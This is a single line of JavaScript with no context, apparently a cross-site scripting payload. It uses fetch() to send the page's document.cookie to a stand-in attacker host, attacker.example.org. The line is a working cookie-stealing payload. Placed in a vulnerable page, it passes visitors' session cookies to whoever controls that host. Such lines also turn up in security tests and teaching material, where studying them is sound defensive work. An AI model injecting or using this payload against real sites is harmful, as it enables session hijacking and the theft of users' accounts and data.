fetch('https://attacker.example.org/?c=' + document.cookie)
